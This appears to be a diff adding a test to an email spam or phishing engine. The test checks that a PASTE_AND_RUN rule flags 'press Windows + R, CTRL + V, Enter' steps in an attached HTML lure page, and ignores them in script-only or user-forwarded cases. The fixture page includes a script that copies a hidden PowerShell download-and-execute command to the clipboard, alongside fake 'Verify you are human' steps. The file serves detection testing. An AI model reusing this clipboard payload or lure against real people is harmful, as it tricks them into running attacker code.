@@ -53,6 +53,18 @@ describe('PASTE_AND_RUN: the steps that paste and run a command', () => {
     ]
     for (const text of texts) expect((await stepsOf(text)).evidence, text).toBeUndefined()
   })
+  it('reads the steps in the web page a lure attaches ("open the attachment"), as a browser shows it: not in its script, and not in a user\'s report that attaches the whole message', async () => {
+    const page = (body: string) => ({ filename: 'Document_Viewer.htm', contentType: 'text/html', content: `<html><head><script>navigator.clipboard.writeText("powershell -w hidden -c iwr x|iex")</script></head><body>${body}</body></html>` })
+    const steps = '<h2>Verify you are human</h2><p>1. Press <b>Windows + R</b></p><p>2. Press <b>CTRL + V</b></p><p>3. Press <b>Enter</b></p>'
+    const scoreOf = async (raw: Buffer) => (await engine.score(raw, FACTS)).symbols.find((s) => s.name === 'PASTE_AND_RUN')?.evidence
+    const note = (attachments: Parameters<typeof buildMail>[0]['attachments']) => buildMail({ headers: { From: 'Kim Fischer <kim.fischer@corp.example>', Subject: 'Document' }, text: 'Please open the attachment to view the document.', attachments })
+    expect(await scoreOf(note([page(steps)]))).toBe('attached page: Windows + R … CTRL + V … Enter')
+    // the same keys in the page's script only, which a browser does not show
+    expect(await scoreOf(note([{ ...page('<p>Loading…</p>'), content: '<html><script>/* Windows + R, CTRL + V, Enter */</script><body>Loading…</body></html>' }]))).toBeUndefined()
+    // a user forwards the lure to IT as an attachment: the page is the report's
+    const lure = buildMail({ headers: { Subject: 'Document' }, text: 'Open the attachment.', attachments: [page(steps)] })
+    expect(await scoreOf(note([{ filename: 'lure.eml', contentType: 'message/rfc822', content: lure }, page(steps)]))).toBeUndefined()
+  })
   it('keeps the classifiers\' ham opinion at 0 or above (floor 0) when it fires, so that the steps are held however ham the words around them look; not where the operator set PASTE_AND_RUN to 0', async () => {
     const hamBands = { ...DEFAULT_ENGINE_SETTINGS, bayes: { ...DEFAULT_ENGINE_SETTINGS.bayes, model: undefined }, scores: { ...DEFAULT_ENGINE_SETTINGS.scores } }
     for (const k of Object.keys(hamBands.scores)) if ((k.startsWith('BAYES_') || k.startsWith('LR_')) && !k.endsWith('SKIPPED')) hamBands.scores[k] = -5
